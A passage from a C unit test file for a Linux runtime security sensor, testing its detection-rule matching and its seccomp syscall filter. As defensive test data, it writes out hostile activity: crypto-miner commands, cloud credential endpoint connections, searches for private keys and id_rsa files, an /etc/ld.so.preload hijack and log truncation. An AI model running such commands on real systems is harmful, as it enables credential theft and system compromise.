	{ "ptrace-traceme: PTRACE_TRACEME", 1, NULL, { BY("app", "/app"),
	  .event = ACT_PTRACE, .ptrace_request = "traceme" }, { NULL }, "ptrace-traceme" },
	{ "crypto-miner-stratum: pool URL in capitals", 1, NULL,
	  { EXEC("python3", "/usr/bin/python3", "sh") },
	  { "python3", "m.py", "-o", "STRATUM+TCP://pool.example:3333" }, "crypto-miner-stratum" },
	{ "crypto-miner-stratum: a host named stratum", 1, NULL,
	  { EXEC("python3", "/usr/bin/python3", "sh") },
	  { "python3", "app.py", "--pool", "stratum.example.com" }, "" },
	{ "crypto-miner-binary: xmrig", 1, NULL, { EXEC("xmrig", "/opt/xmrig", "sh") },
	  { "xmrig", "--donate-level", "1" }, "crypto-miner-binary" },
	{ "crypto-miner-binary: xmrig-proxy", 1, NULL,
	  { EXEC("xmrig-proxy", "/opt/xmrig-proxy", "sh") }, { "xmrig-proxy" }, "" },
	{ "crypto-miner-pool-port: connect to port 3333", 1, NULL,
	  { BY("python3", "/usr/bin/python3"), .event = ACT_CONNECT, INET("10.0.0.5", 3333) },
	  { NULL }, "crypto-miner-pool-port" },
	{ "crypto-miner-pool-port: inet6", 1, NULL,
	  { BY("python3", "/usr/bin/python3"), .event = ACT_CONNECT, .family = AF_INET6,
	    .ip = "2001:db8::5", .port = 14444, .has_addr = 1 }, { NULL },
	  "crypto-miner-pool-port" },
	{ "crypto-miner-pool-port: connect to port 443", 1, NULL,
	  { BY("python3", "/usr/bin/python3"), .event = ACT_CONNECT, INET("10.0.0.5", 443) },
	  { NULL }, "" },
	{ "cloud-credentials-endpoint: a child asks the task endpoint", 1, NULL,
	  { BY("curl", "/usr/bin/curl"), .event = ACT_CONNECT, INET("169.254.170.2", 80) },
	  { NULL }, "cloud-credentials-endpoint" },
	{ "cloud-credentials-endpoint: IMDS over IPv6", 1, NULL,
	  { BY("curl", "/usr/bin/curl"), .event = ACT_CONNECT, .family = AF_INET6,
	    .ip = "fd00:ec2::254", .port = 80, .has_addr = 1 }, { NULL },
	  "cloud-credentials-endpoint" },
	{ "cloud-credentials-endpoint: the application's main process", 1, NULL,
	  { BY("java", "/usr/bin/java"), .event = ACT_CONNECT, .is_main = 1,
	    INET("169.254.170.2", 80) }, { NULL }, "" },
	{ "package-manager: apt-get install", 1, NULL,
	  { EXEC("apt-get", "/usr/bin/apt-get", "sh") }, { "apt-get", "install", "-y", "nmap" },
	  "package-manager" },
	{ "package-manager: pip", 1, NULL, { EXEC("pip", "/usr/bin/pip", "sh") },
	  { "pip", "install", "x" }, "" },
	{ "setuid-setgid-chmod: chmod 4755", 1, NULL,
	  { BY("chmod", "/bin/chmod"), .event = ACT_CHMOD, .file_path = "/tmp/x",
	    .is_write = 1, .has_mode = 1, .mode = 04755 }, { NULL }, "setuid-setgid-chmod" },
	{ "setuid-setgid-chmod: chmod g+s", 1, NULL,
	  { BY("chmod", "/bin/chmod"), .event = ACT_CHMOD, .file_path = "/tmp/d",
	    .is_write = 1, .has_mode = 1, .mode = 02775 }, { NULL }, "setuid-setgid-chmod" },
	{ "setuid-setgid-chmod: chmod 755", 1, NULL,
	  { BY("chmod", "/bin/chmod"), .event = ACT_CHMOD, .file_path = "/tmp/x",
	    .is_write = 1, .has_mode = 1, .mode = 0755 }, { NULL }, "" },
	{ "namespace-unshare: a user and mount namespace", 1, NULL,
	  { BY("unshare", "/usr/bin/unshare"), .event = ACT_UNSHARE,
	    .ns_flags = CLONE_NEWUSER | CLONE_NEWNS }, { NULL }, "namespace-unshare" },
	{ "namespace-unshare: a time namespace", 1, NULL,
	  { BY("unshare", "/usr/bin/unshare"), .event = ACT_UNSHARE, .ns_flags = 0x80 },
	  { NULL }, "namespace-unshare" },
	{ "namespace-unshare: unsharing files only", 1, NULL,
	  { BY("app", "/app"), .event = ACT_UNSHARE, .ns_flags = CLONE_FILES | CLONE_FS },
	  { NULL }, "" },
	{ "namespace-setns: any setns", 1, NULL,
	  { BY("nsenter", "/usr/bin/nsenter"), .event = ACT_SETNS, .ns_flags = 0,
	    .target_pid = 1 }, { NULL }, "namespace-setns" },
	{ "namespace-setns: turned off", 1, "{'rules': [{'id': 'namespace-setns', " REQ
	  ", 'event': 'setns', 'enabled': false, 'when': []}]}",
	  { BY("nsenter", "/usr/bin/nsenter"), .event = ACT_SETNS, .ns_flags = 0,
	    .target_pid = 1 }, { NULL }, "" },
	{ "network-tool: nmap", 1, NULL, { EXEC("nmap", "/usr/bin/nmap", "sh") },
	  { "nmap", "-sS", "10.0.0.0/24" }, "network-tool" },
	{ "network-tool: ping", 1, NULL, { EXEC("ping", "/usr/bin/ping", "sh") },
	  { "ping", "10.0.0.1" }, "" },
	{ "log-truncation: O_TRUNC on /var/log", 1, NULL,
	  { BY("sh", "/bin/sh"), .event = ACT_OPEN, .file_path = "/var/log/nginx/access.log",
	    .is_write = 1, .is_trunc = 1, .existed = 1 }, { NULL }, "log-truncation" },
	{ "log-truncation: append to /var/log", 1, NULL,
	  { BY("nginx", "/usr/sbin/nginx"), .event = ACT_OPEN,
	    .file_path = "/var/log/nginx/access.log", .is_write = 1, .existed = 1 },
	  { NULL }, "" },
	{ "credential-search: grep for a private key", 1, NULL,
	  { EXEC("grep", "/bin/grep", "sh") }, { "grep", "-rl", "BEGIN RSA PRIVATE KEY", "/" },
	  "credential-search" },
	{ "credential-search: find id_rsa", 1, NULL, { EXEC("find", "/usr/bin/find", "sh") },
	  { "find", "/", "-name", "id_rsa*" }, "credential-search" },
	{ "credential-search: grep for TODO", 1, NULL, { EXEC("grep", "/bin/grep", "sh") },
	  { "grep", "-r", "TODO", "src" }, "" },
	/* The other syscall paths, as observe.c maps them. */
	{ "write-below-etc: a link created in /etc (linkat: an open that creates)", 1, NULL,
	  { BY("ln", "/bin/ln"), .event = ACT_OPEN, .file_path = "/etc/ld.so.preload",
	    .old_path = "/tmp/evil.so", .is_write = 1, .is_create = 1 }, { NULL },
	  "write-below-etc" },
	{ "write-below-binary-dir: a symlink in /usr/local/bin", 1, NULL,
	  { BY("ln", "/bin/ln"), .event = ACT_OPEN, .file_path = "/usr/local/bin/ls",
	    .old_path = "/tmp/x", .is_write = 1, .is_create = 1 }, { NULL },
	  "write-below-binary-dir" },
	{ "write-below-etc: RENAME_EXCHANGE of /tmp/x with /etc/passwd counts both names", 1,
	  NULL, { BY("app", "/app"), .event = ACT_RENAME, .file_path = "/tmp/x",
		  .old_path = "/etc/passwd", .exchange = 1, .is_write = 1 }, { NULL },
	  "write-below-etc" },
	{ "write-below-etc: a plain rename out of /etc names the new path only", 1, NULL,
	  { BY("app", "/app"), .event = ACT_RENAME, .file_path = "/tmp/x",
	    .old_path = "/etc/passwd", .is_write = 1 }, { NULL }, "" },
	{ "write-below-etc: RENAME_EXCHANGE, a not holds only when neither name matches", 0,
	  ONE("'rename'", CONDX("file.path", "prefix", "'/etc/'", "'not': true")),
	  { BY("app", "/app"), .event = ACT_RENAME, .file_path = "/tmp/x",
	    .old_path = "/etc/passwd", .exchange = 1, .is_write = 1 }, { NULL }, "" },
	{ "log-truncation: truncate(2) of a log (an open with O_TRUNC)", 1, NULL,
	  { BY("sh", "/bin/sh"), .event = ACT_OPEN, .file_path = "/var/log/auth.log",
	    .is_write = 1, .is_trunc = 1, .existed = 1 }, { NULL }, "log-truncation" },
	{ "process-memory-write: process_vm_writev (ptrace event, /proc/PID/mem)", 1, NULL,
	  { BY("app", "/app"), .event = ACT_PTRACE, .ptrace_request = "vm_writev",
	    .target_pid = 77, .file_path = "/proc/77/mem" }, { NULL }, "process-memory-write" },
	{ "process-memory-write: /proc/77/mem opened for writing", 1, NULL,
	  { BY("app", "/app"), .event = ACT_OPEN, .file_path = "/proc/77/mem",
	    .is_write = 1, .existed = 1 }, { NULL }, "process-memory-write" },
	{ "process-memory-write: a thread's /proc/77/task/78/mem opened for writing", 1, NULL,
	  { BY("app", "/app"), .event = ACT_OPEN, .file_path = "/proc/77/task/78/mem",
	    .is_write = 1, .existed = 1 }, { NULL }, "process-memory-write" },
	{ "process-memory-write: /proc/77/mem read (a debugger's dump)", 1, NULL,
	  { BY("gdb", "/usr/bin/gdb"), .event = ACT_OPEN, .file_path = "/proc/77/mem",
	    .existed = 1 }, { NULL }, "" },
	{ "process-memory-write: /proc/77/maps written is not memory", 1, NULL,
	  { BY("app", "/app"), .event = ACT_OPEN, .file_path = "/proc/77/maps",
	    .is_write = 1, .existed = 1 }, { NULL }, "" },
	{ "process-memory-write: PTRACE_ATTACH has no file: ptrace-attach only", 1, NULL,
	  { BY("gdb", "/usr/bin/gdb"), .event = ACT_PTRACE, .ptrace_request = "attach",
	    .target_pid = 77 }, { NULL }, "ptrace-attach" },
	{ "unreadable-arguments: an exec with a cut argv", 1, NULL,
	  { EXEC("true", "/bin/true", "sh"), .args_unreadable = 1 }, { "true" },
	  "unreadable-arguments" },
	{ "unreadable-arguments: a connect whose address is unreadable", 1, NULL,
	  { BY("app", "/app"), .event = ACT_CONNECT, .args_unreadable = 1 }, { NULL },
	  "unreadable-arguments" },
	{ "unreadable-arguments: an open whose path is unreadable", 1, NULL,
	  { BY("app", "/app"), .event = ACT_OPEN, .file_path = "/", .args_unreadable = 1 },
	  { NULL }, "unreadable-arguments" },
	{ "unreadable-arguments: an exec read whole", 1, NULL,
	  { EXEC("true", "/bin/true", "sh") }, { "true" }, "" },
	{ "namespace-unshare: clone(CLONE_NEWNET) is the unshare event", 1, NULL,
	  { BY("app", "/app"), .event = ACT_UNSHARE, .ns_flags = CLONE_NEWNET }, { NULL },
	  "namespace-unshare" },
	{ "built-in: cat of a file runs no rule", 1, NULL, { EXEC("cat", "/bin/cat", "sh") },
	  { "cat", "/app/config.yml" }, "" },
	{ "built-in: an override changes what matches", 1, "{'rules': [{'id': 'network-tool', "
	  REQ ", 'event': 'exec', 'when': [" COND("process.name", "eq", "'ping'") "]}]}",
	  { EXEC("ping", "/usr/bin/ping", "sh") }, { "ping", "10.0.0.1" }, "network-tool" },
};

/* argv into a tstrv as tracee_mem.c keeps one: entries back to back. */
static void make_argv(struct tstrv *v, char *buf, size_t cap, const char *const *argv,
		      size_t n)
{
	memset(v, 0, sizeof *v);
	v->buf = buf;
	v->cap = cap;
	for (size_t i = 0; i < n; i++) {
		size_t len = strlen(argv[i]);

		if (v->used + len + 1 > cap)
			abort();
		memcpy(buf + v->used, argv[i], len + 1);
		v->off[i] = (uint32_t)v->used;
		v->len[i] = (uint32_t)len;
		v->used += len + 1;
	}
	v->n = n;
	v->count = n;
}

static void test_match_table(void)
{
	for (size_t i = 0; i < sizeof match_cases / sizeof *match_cases; i++) {
		const struct match_case *c = &match_cases[i];
		struct ruleset rs = { 0 };
		struct fc_err e = { 0 };
		struct activity a = c->a;
		struct tstrv v;
		char buf[1024], cmd[1024] = "", got[1024] = "";
		size_t out[64], n, argc = 0;

		if ((c->builtin && ruleset_load_builtin(&rs, &e) < 0) ||
		    (c->doc && add_doc(&rs, c->doc, &e) < 0)) {
			CHECK(0, "match: %s (the rules load)", c->why);
			unit_diag("%s", e.msg);
			ruleset_free(&rs);
			continue;
		}
		while (argc < 8 && c->argv[argc])
			argc++;
		if (argc) {
			make_argv(&v, buf, sizeof buf, c->argv, argc);
			a.argv = &v;
			for (size_t k = 0; k < argc; k++) {
				if (k)
					strcat(cmd, " ");
				strcat(cmd, c->argv[k]);
			}
			if (!a.cmd_line)
				a.cmd_line = cmd;
		}
		n = ruleset_match(&rs, &a, out, 64);
		for (size_t k = 0; k < n && k < 64; k++) {
			if (k)
				strcat(got, " ");
			strcat(got, rs.rules[out[k]].id);
		}
		if (!CHECK(strcmp(got, c->want) == 0, "match: %s", c->why)) {
			unit_diag("got:  \"%s\"", got);
			unit_diag("want: \"%s\"", c->want);
		}
		ruleset_free(&rs);
	}
}

/* What the table cannot say. */
static void test_match_more(void)
{
	struct ruleset rs = { 0 };
	struct fc_err e = { 0 };
	struct activity a = { .event = ACT_EXEC, .name = "sh" };
	size_t out[4] = { 99, 99, 99, 99 };
	char doc[512];

	/* More matches than room: no write past max. */
	if (add_doc(&rs, "{'rules': ["
		    "{'id': 'a', " REQ ", 'event': 'exec', 'when': []},"
		    "{'id': 'b', " REQ ", 'event': 'exec', 'when': []},"
		    "{'id': 'c', " REQ ", 'event': 'exec', 'when': []}]}", &e) == 0) {
		size_t n = ruleset_match(&rs, &a, out, 2);

		CHECK(n == 2 && out[0] == 0 && out[1] == 1 && out[2] == 99,
		      "match: three matches with room for two store two");
		CHECK(ruleset_match(&rs, &a, out, 0) == 0 && out[0] == 0,
		      "match: room for none stores none");
	}
	ruleset_free(&rs);

	/* process.uid is read from /proc only when a rule asks for it. */
	snprintf(doc, sizeof doc, "{'rules': [{'id': 'u', " REQ ", 'event': 'open', "
		 "'when': [" COND("process.uid", "eq", "%u") "]}]}", (unsigned)getuid());
	if (add_doc(&rs, doc, &e) == 0) {
		struct activity o = { .event = ACT_OPEN, .pid = getpid(), .tid = getpid(),
				      .uid = -1, .file_path = "/x" };

		CHECK(ruleset_match(&rs, &o, out, 4) == 1 && o.uid == (long)getuid(),
		      "match: process.uid is read from /proc/PID/status when unknown");
		o.uid = -1;
		o.tid = 0x7ffffff0;
		CHECK(ruleset_match(&rs, &o, out, 4) == 0 && o.uid == -2,
		      "match: an unreadable uid does not hold, and is not read twice");
	} else {
		CHECK(0, "match: the process.uid rule loads");
		unit_diag("%s", e.msg);
	}
	ruleset_free(&rs);
}

/* ------------------------------------------------------------------ */
/* c. The filter compiled from rules */

#define PID 4242
#define WRITER 4243
#define SIGNALS 4244
#define PGID 4240
#define OTHER 777
#define S64(v) ((uint64_t)(int64_t)(v))
#define FDCWD S64(AT_FDCWD)
#define PATHP 0x7ffd0000ULL      /* a path pointer: never compared */

static const struct spec_ctx ctx = { .pid = PID, .pgid = PGID,
				      .tids = { PID, WRITER, SIGNALS }, .n_tids = 3 };

enum set { SET_BUILTIN, SET_PLAIN, SET_OPEN_RULE, SET_NO_NS, SET_NO_FILES, SET_GUARDED,
	   SET_READ_RULE, SET_N };

/* The rule sets the table runs against: the built-in one; one with no
 * sensitive path and no rule on opens, ptrace, dup or namespaces; the
 * same with a rule on opens; the built-in one less the namespace rules;
 * the built-in one with --file-events=off. Each stops every open when
 * reads matter at all, as the sensor does when the guard cannot watch
 * them; "guarded" is the built-in one when it can (guard.h), and "a read
 * rule" one whose reads no guard can watch (by program, not by file). */
static const struct {
	const char *name;
	int builtin;
	const char *doc;
	int no_files;
	int guarded;
} sets[SET_N] = {
	[SET_BUILTIN] = { "built-in", 1, NULL, 0 },
	[SET_PLAIN] = { "exec rule only", 0, ONE("'exec'", ""), 0 },
	[SET_OPEN_RULE] = { "an open rule", 0, ONE("'open'", COND("file.path", "eq", "'/x'")),
			    0 },
	[SET_NO_NS] = { "built-in less namespaces", 1, "{'rules': ["
		"{'id': 'namespace-unshare', " REQ ", 'event': 'unshare', 'enabled': false, "
		"'when': []}, {'id': 'namespace-setns', " REQ ", 'event': 'setns', "
		"'enabled': false, 'when': []}]}", 0 },
	[SET_NO_FILES] = { "built-in, file events off", 1, NULL, 1 },
	[SET_GUARDED] = { "built-in, reads guarded", 1, NULL, 0, 1 },
	[SET_READ_RULE] = { "a read rule", 0, ONE("'open'", COND("process.name", "eq", "'cat'")),
			    0, 1 },
};

/* EPERM_: a policy's refusal (policy.h): the filter stops the call, at any
 * row (the tracer matches again), and user space names a policy row. */
enum want { ALLOW, TRACE, EPERM_, EPERM_OR_TRACE };

static const struct filter_case {
	enum set set;
	const char *syscall;
	uint32_t arch;           /* libseccomp token; 0: native */
	uint64_t args[6];
	enum want want;
	const char *why;
} filter_cases[] = {
	/* chmod family: only modes with an exec, setuid or setgid bit. */
	{ SET_BUILTIN, "chmod", 0, { PATHP, 0644 }, ALLOW, "chmod 0644 runs" },
	{ SET_BUILTIN, "chmod", 0, { PATHP, 0600 }, ALLOW, "chmod 0600 runs" },
	{ SET_BUILTIN, "chmod", 0, { PATHP, 0755 }, TRACE, "chmod 0755 stops" },
	{ SET_BUILTIN, "chmod", 0, { PATHP, 0100 }, TRACE, "chmod 0100 stops (u+x)" },
	{ SET_BUILTIN, "chmod", 0, { PATHP, 0601 }, TRACE, "chmod 0601 stops (o+x)" },
	{ SET_BUILTIN, "chmod", 0, { PATHP, 04644 }, TRACE, "chmod 04644 stops (setuid)" },
	{ SET_BUILTIN, "chmod", 0, { PATHP, 02644 }, TRACE, "chmod 02644 stops (setgid)" },
	{ SET_BUILTIN, "chmod", 0, { PATHP, 01777 }, TRACE, "chmod 01777 stops (x bits)" },
	{ SET_BUILTIN, "chmod", 0, { PATHP, 01666 }, ALLOW, "chmod 01666 runs (sticky only)" },
	{ SET_BUILTIN, "fchmod", 0, { 3, 0755 }, TRACE, "fchmod 0755 stops" },
	{ SET_BUILTIN, "fchmod", 0, { 3, 0644 }, ALLOW, "fchmod 0644 runs" },
	{ SET_BUILTIN, "fchmodat", 0, { FDCWD, PATHP, 04755, 0 }, TRACE, "fchmodat 04755 stops" },
	{ SET_BUILTIN, "fchmodat", 0, { FDCWD, PATHP, 0644, 0 }, ALLOW, "fchmodat 0644 runs" },
	{ SET_BUILTIN, "fchmodat2", 0, { FDCWD, PATHP, 04755, 0 }, TRACE,
	  "fchmodat2 04755 stops (Linux 6.6; an attacker may call it directly)" },
	{ SET_BUILTIN, "fchmodat2", 0, { FDCWD, PATHP, 0644, 0 }, ALLOW, "fchmodat2 0644 runs" },
	{ SET_BUILTIN, "chmod", SCMP_ARCH_X86, { 0x1000, 0755 }, EPERM_,
	  "i386 chmod 0755: the compat-abi policy" },
	{ SET_BUILTIN, "chmod", SCMP_ARCH_X86, { 0x1000, 0644 }, EPERM_,
	  "i386 chmod 0644: the compat-abi policy, whatever the mode" },
	{ SET_PLAIN, "chmod", 0, { PATHP, 0755 }, TRACE,
	  "chmod 0755 stops without any rule (File System Activity)" },

	/* open family. */
	{ SET_BUILTIN, "openat", 0, { FDCWD, PATHP, O_RDONLY }, TRACE,
	  "openat O_RDONLY stops: sensitive paths make every open count" },
	{ SET_BUILTIN, "open", 0, { PATHP, O_RDONLY | O_CLOEXEC }, TRACE,
	  "open O_RDONLY stops with sensitive paths" },
	{ SET_BUILTIN, "openat", 0, { FDCWD, PATHP, O_WRONLY | O_CREAT | O_TRUNC, 0644 }, TRACE,
	  "openat for writing stops" },
	{ SET_BUILTIN, "creat", 0, { PATHP, 0644 }, TRACE, "creat stops" },
	{ SET_BUILTIN, "openat2", 0, { FDCWD, PATHP, 0x1000, 24 }, TRACE,
	  "openat2 stops (its flags are behind a pointer)" },
	{ SET_GUARDED, "openat", 0, { FDCWD, PATHP, O_RDONLY }, ALLOW,
	  "reads guarded: openat O_RDONLY runs (a web server's open per request)" },
	{ SET_GUARDED, "open", 0, { PATHP, O_RDONLY | O_NONBLOCK }, ALLOW,
	  "reads guarded: open O_RDONLY runs" },
	{ SET_GUARDED, "openat", 0, { FDCWD, PATHP, O_WRONLY | O_APPEND }, TRACE,
	  "reads guarded: openat for writing stops" },
	{ SET_GUARDED, "openat", 0, { FDCWD, PATHP, O_RDONLY | O_TRUNC }, TRACE,
	  "reads guarded: openat O_TRUNC stops" },
	{ SET_GUARDED, "openat2", 0, { FDCWD, PATHP, 0x1000, 24 }, TRACE,
	  "reads guarded: openat2 stops (its flags are behind a pointer)" },
	{ SET_GUARDED, "creat", 0, { PATHP, 0644 }, TRACE, "reads guarded: creat stops" },
	{ SET_READ_RULE, "openat", 0, { FDCWD, PATHP, O_RDONLY }, TRACE,
	  "a rule on reads by a program: openat O_RDONLY stops even when guarded" },
	{ SET_PLAIN, "openat", 0, { FDCWD, PATHP, O_RDONLY }, ALLOW,
	  "no sensitive path, no open rule: openat O_RDONLY runs" },
	{ SET_PLAIN, "openat", 0, { FDCWD, PATHP, O_RDONLY | O_CLOEXEC | O_DIRECTORY |
	  O_NONBLOCK }, ALLOW, "openat O_RDONLY with other flags runs" },
	{ SET_PLAIN, "openat", 0, { FDCWD, PATHP, O_WRONLY }, TRACE, "openat O_WRONLY stops" },
	{ SET_PLAIN, "openat", 0, { FDCWD, PATHP, O_RDWR }, TRACE, "openat O_RDWR stops" },
	{ SET_PLAIN, "openat", 0, { FDCWD, PATHP, O_RDONLY | O_CREAT, 0600 }, TRACE,
	  "openat O_CREAT stops" },
	{ SET_PLAIN, "openat", 0, { FDCWD, PATHP, O_RDONLY | O_TRUNC }, TRACE,
	  "openat O_TRUNC stops" },
	{ SET_PLAIN, "openat", 0, { FDCWD, PATHP, O_WRONLY | O_APPEND | O_CLOEXEC }, TRACE,
	  "openat O_WRONLY|O_APPEND stops" },
	{ SET_PLAIN, "open", 0, { PATHP, O_RDONLY }, ALLOW, "open O_RDONLY runs" },
	{ SET_PLAIN, "open", 0, { PATHP, O_RDWR | O_CREAT, 0600 }, TRACE, "open O_RDWR stops" },
	{ SET_PLAIN, "creat", 0, { PATHP, 0644 }, TRACE, "creat stops without rules" },
	{ SET_PLAIN, "openat2", 0, { FDCWD, PATHP, 0x1000, 24 }, TRACE,
	  "openat2 stops without rules" },
	{ SET_PLAIN, "openat", SCMP_ARCH_X86, { S64(AT_FDCWD) & 0xffffffffU, 0x1000, O_RDONLY },
	  EPERM_, "i386 openat O_RDONLY: the compat-abi policy" },
	{ SET_PLAIN, "openat", SCMP_ARCH_X86, { S64(AT_FDCWD) & 0xffffffffU, 0x1000, O_WRONLY },
	  EPERM_, "i386 openat O_WRONLY: the compat-abi policy" },
	{ SET_PLAIN, "openat", SCMP_ARCH_X32, { FDCWD, PATHP, O_RDWR }, EPERM_,
	  "x32 openat O_RDWR: the compat-abi policy" },
	{ SET_OPEN_RULE, "openat", 0, { FDCWD, PATHP, O_RDONLY }, TRACE,
	  "a rule on opens makes openat O_RDONLY stop" },
	{ SET_OPEN_RULE, "open", 0, { PATHP, O_RDONLY }, TRACE,
	  "a rule on opens makes open O_RDONLY stop" },

	/* Other files, sockets, programs: always. */
	{ SET_PLAIN, "unlink", 0, { PATHP }, TRACE, "unlink stops" },
	{ SET_PLAIN, "unlinkat", 0, { FDCWD, PATHP, 0 }, TRACE, "unlinkat stops" },
	{ SET_PLAIN, "rename", 0, { PATHP, PATHP }, TRACE, "rename stops" },
	{ SET_PLAIN, "renameat", 0, { FDCWD, PATHP, FDCWD, PATHP }, TRACE, "renameat stops" },
	{ SET_PLAIN, "renameat2", 0, { FDCWD, PATHP, FDCWD, PATHP, 0 }, TRACE, "renameat2 stops" },
	{ SET_BUILTIN, "connect", 0, { 3, PATHP, 16 }, TRACE, "connect stops" },
	{ SET_BUILTIN, "bind", 0, { 3, PATHP, 16 }, TRACE, "bind stops" },
	{ SET_BUILTIN, "listen", 0, { 3, 128 }, TRACE, "listen stops" },
	{ SET_PLAIN, "connect", 0, { 3, PATHP, 16 }, TRACE, "connect stops without rules" },
	{ SET_BUILTIN, "connect", SCMP_ARCH_X32, { 3, PATHP, 16 }, EPERM_,
	  "x32 connect: the compat-abi policy" },
	{ SET_BUILTIN, "execve", 0, { PATHP, PATHP, PATHP }, TRACE, "execve stops" },
	{ SET_BUILTIN, "execveat", 0, { 3, PATHP, PATHP, PATHP, 0x1000 }, TRACE,
	  "execveat stops" },
	{ SET_BUILTIN, "execve", SCMP_ARCH_X86, { 0x1000, 0x2000, 0x3000 }, EPERM_,
	  "i386 execve: the compat-abi policy" },
	{ SET_BUILTIN, "getppid", 0, { 0 }, ALLOW, "getppid runs" },
	{ SET_BUILTIN, "read", 0, { 0, PATHP, 4096 }, ALLOW, "read runs" },
	{ SET_BUILTIN, "write", 0, { 1, PATHP, 4096 }, ALLOW, "write runs" },
	{ SET_BUILTIN, "socket", 0, { AF_INET, SOCK_STREAM, 0 }, ALLOW, "socket runs" },
	{ SET_BUILTIN, "dup", 0, { 5 }, ALLOW, "dup runs" },
	{ SET_BUILTIN, "fcntl", 0, { 5, F_DUPFD, 0 }, ALLOW,
	  "fcntl(F_DUPFD) runs (the lowest free fd; not a dup2)" },

	/* dup2/dup3: only onto 0, 1, 2, and only with a rule. */
	{ SET_BUILTIN, "dup2", 0, { 5, 1 }, TRACE, "dup2(5, 1) stops" },
	{ SET_BUILTIN, "dup2", 0, { 5, 0 }, TRACE, "dup2(5, 0) stops" },
	{ SET_BUILTIN, "dup2", 0, { 5, 2 }, TRACE, "dup2(5, 2) stops" },
	{ SET_BUILTIN, "dup2", 0, { 5, 7 }, ALLOW, "dup2(5, 7) runs" },
	{ SET_BUILTIN, "dup2", 0, { 5, 0xdead000000000001ULL }, TRACE,
	  "dup2(5, 1) with garbage in the upper half (the kernel reads an int) stops" },
	{ SET_BUILTIN, "dup3", 0, { 5, 1, O_CLOEXEC }, TRACE, "dup3(5, 1, O_CLOEXEC) stops" },
	{ SET_BUILTIN, "dup3", 0, { 5, 9, 0 }, ALLOW, "dup3(5, 9) runs" },
	{ SET_BUILTIN, "dup2", SCMP_ARCH_X86, { 5, 1 }, EPERM_,
	  "i386 dup2(5, 1): the compat-abi policy" },
	{ SET_PLAIN, "dup2", 0, { 5, 1 }, ALLOW, "no dup rule: dup2(5, 1) runs" },

	/* ptrace: ATTACH, SEIZE, TRACEME only, and only with a rule. */
	{ SET_BUILTIN, "ptrace", 0, { PTRACE_ATTACH, OTHER }, TRACE,
	  "ptrace(ATTACH, other) stops" },
	{ SET_BUILTIN, "ptrace", 0, { PTRACE_SEIZE, OTHER, 0, 0 }, TRACE,
	  "ptrace(SEIZE, other) stops" },
	{ SET_BUILTIN, "ptrace", 0, { PTRACE_TRACEME }, TRACE, "ptrace(TRACEME) stops" },
	{ SET_BUILTIN, "ptrace", 0, { PTRACE_PEEKDATA, OTHER, PATHP }, ALLOW,
	  "ptrace(PEEKDATA, other) runs" },
	{ SET_BUILTIN, "ptrace", 0, { PTRACE_CONT, OTHER, 0, 0 }, ALLOW, "ptrace(CONT) runs" },
	{ SET_BUILTIN, "ptrace", 0, { (1ULL << 32) | PTRACE_ATTACH, OTHER }, ALLOW,
	  "ptrace with upper bits set is another request (the kernel reads a long): runs" },
	{ SET_BUILTIN, "ptrace", 0, { PTRACE_ATTACH, S64(PID) }, EPERM_OR_TRACE,
	  "ptrace(ATTACH, sensor) is refused or stopped" },
	{ SET_BUILTIN, "ptrace", 0, { PTRACE_SEIZE, S64(WRITER) }, EPERM_OR_TRACE,
	  "ptrace(SEIZE, sensor thread) is refused or stopped" },
	{ SET_BUILTIN, "ptrace", 0, { PTRACE_PEEKDATA, S64(PID), 0 }, EPERM_,
	  "ptrace(PEEKDATA, sensor) is refused" },
	{ SET_BUILTIN, "ptrace", SCMP_ARCH_X86, { PTRACE_ATTACH, OTHER }, EPERM_,
	  "i386 ptrace(ATTACH, other): the compat-abi policy" },
	{ SET_BUILTIN, "ptrace", SCMP_ARCH_X86, { PTRACE_PEEKDATA, OTHER, 0x1000 }, EPERM_,
	  "i386 ptrace(PEEKDATA, other): the compat-abi policy" },
	{ SET_BUILTIN, "ptrace", SCMP_ARCH_X32, { PTRACE_SEIZE, OTHER }, EPERM_,
	  "x32 ptrace(SEIZE, other): the compat-abi policy" },
	{ SET_PLAIN, "ptrace", 0, { PTRACE_ATTACH, OTHER }, ALLOW,
	  "no ptrace rule: ptrace(ATTACH, other) runs" },
	{ SET_PLAIN, "ptrace", 0, { PTRACE_ATTACH, S64(PID) }, EPERM_,
	  "no ptrace rule: ptrace(ATTACH, sensor) is refused" },

	/* Namespaces: only with a rule. */
	{ SET_BUILTIN, "unshare", 0, { CLONE_NEWNS }, TRACE, "unshare stops" },
	{ SET_BUILTIN, "unshare", 0, { CLONE_FILES }, TRACE,
	  "unshare(CLONE_FILES) stops too (no argument condition)" },
	{ SET_BUILTIN, "setns", 0, { 3, 0 }, TRACE, "setns stops" },
	{ SET_NO_NS, "unshare", 0, { CLONE_NEWNS }, ALLOW,
	  "namespace rules off: unshare runs" },
	{ SET_NO_NS, "setns", 0, { 3, CLONE_NEWNET }, ALLOW, "namespace rules off: setns runs" },
	{ SET_NO_NS, "ptrace", 0, { PTRACE_ATTACH, OTHER }, TRACE,
	  "namespace rules off: ptrace(ATTACH) still stops" },
	{ SET_NO_NS, "openat", 0, { FDCWD, PATHP, O_RDONLY }, TRACE,
	  "namespace rules off: sensitive opens still stop" },
	{ SET_PLAIN, "unshare", 0, { CLONE_NEWNS }, ALLOW, "no namespace rule: unshare runs" },
	{ SET_PLAIN, "unshare", 0, { CLONE_NEWUSER }, EPERM_,
	  "no namespace rule: unshare(CLONE_NEWUSER) is the user-namespace policy" },
	{ SET_BUILTIN, "unshare", 0, { CLONE_NEWUSER | CLONE_NEWNS }, EPERM_,
	  "unshare(CLONE_NEWUSER) is the policy, though the rules' row hides it in BPF" },

	/* Other ways to create names and change files: always, but
	 * ftruncate only to 0. */
	{ SET_PLAIN, "link", 0, { PATHP, PATHP }, TRACE, "link stops" },
	{ SET_PLAIN, "linkat", 0, { FDCWD, PATHP, FDCWD, PATHP, 0 }, TRACE, "linkat stops" },
	{ SET_PLAIN, "symlink", 0, { PATHP, PATHP }, TRACE, "symlink stops" },
	{ SET_PLAIN, "symlinkat", 0, { PATHP, FDCWD, PATHP }, TRACE, "symlinkat stops" },
	{ SET_PLAIN, "mknod", 0, { PATHP, S_IFIFO | 0644, 0 }, TRACE, "mknod of a FIFO stops" },
	{ SET_PLAIN, "mknodat", 0, { FDCWD, PATHP, S_IFREG | 0644, 0 }, TRACE,
	  "mknodat of a regular file stops" },
	{ SET_PLAIN, "truncate", 0, { PATHP, 4096 }, TRACE, "truncate to any length stops" },
	{ SET_PLAIN, "ftruncate", 0, { 3, 0 }, TRACE, "ftruncate(fd, 0) stops" },
